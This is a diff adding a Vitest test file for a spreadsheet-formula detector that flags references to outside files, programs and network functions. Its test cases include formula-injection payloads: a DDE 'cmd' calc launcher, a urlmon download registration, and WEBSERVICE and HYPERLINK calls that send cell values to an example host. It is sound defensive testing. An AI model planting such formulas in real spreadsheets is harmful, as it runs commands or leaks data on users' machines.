@@ -1,0 +1,55 @@
+import { expect, test } from 'vitest'
+import { reachesOutside } from './outside-references.ts'
+
+test.each([
+  // Another file.
+  '[1]Sheet1!A1',
+  "'[2]My sheet'!$A$1",
+  'SUM(A1)+[1]!Total',
+  '[https://example.org/book.xlsx]S!A1',
+  // Another program.
+  "cmd|'/c calc'!A0",
+  "'cmd'|'/c calc'!A0",
+  'DDE("soffice","a.ods","A1")',
+  // Functions that fetch, send or run something.
+  'WEBSERVICE("https://example.org/?"&A4)',
+  '_xlfn.WEBSERVICE ("https://example.org")',
+  '_xlfn._xlws.IMAGE(A1)',
+  'IF(TRUE,image(A1),1)',
+  'HYPERLINK("https://example.org/?"&A4,"here")',
+  'IMPORTXML(A1,B1)',
+  'RTD("a","b","c")',
+  'REGISTER.ID("urlmon","URLDownloadToFileA")',
+  'SQL.REQUEST("dsn")',
+  'CUBEVALUE("connection","[Measures].[x]")',
+  'INDIRECT("\'https://example.org/x.ods\'#$S.A1")',
+  'COPILOT("Summarize",A1:A9)',
+  'SomeFunctionOfTomorrow(A1)',
+  'add\\in(A1)',
+  // What cannot be read with certainty.
+  `T[a'[b]]+WEBSERVICE("x")+'S'!A1`,
+  '"open',
+  "'open",
+])('%s reaches outside', (formula) => {
+  expect(reachesOutside(formula)).toBe(true)
+})
+
+test.each([
+  '',
+  'SUM(Table1[Total])',
+  'SUM(Table1[[#This Row],[Cost (USD)]])',
+  `SUM(Costs[Paid '[USD']])`,
+  'SUM(Table1[@Total])',
+  '"[1]"&A1',
+  '"WEBSERVICE("&A1&"|"',
+  '"say ""IMAGE("""',
+  "SUM('Cost (a | b)'!A1:A9,'O''Brien (2)'!B1)",
+  'COUNTIFS(People!$A$4:$A$9,"<>",B4:B9,"red")/COUNTA(A4:A9)',
+  '_xlfn.XLOOKUP(A1,B:B,C:C)',
+  '_xlfn._xlws.SORT(_xlfn.UNIQUE(A1:A9))',
+  '_xlfn.ANCHORARRAY(A1)*2',
+  'NETWORKDAYS.INTL(A1,TODAY())+{1,2;3,4}+#REF!',
+  'WebserviceTotal+1',
+])('%s stays inside', (formula) => {
+  expect(reachesOutside(formula)).toBe(false)
+})
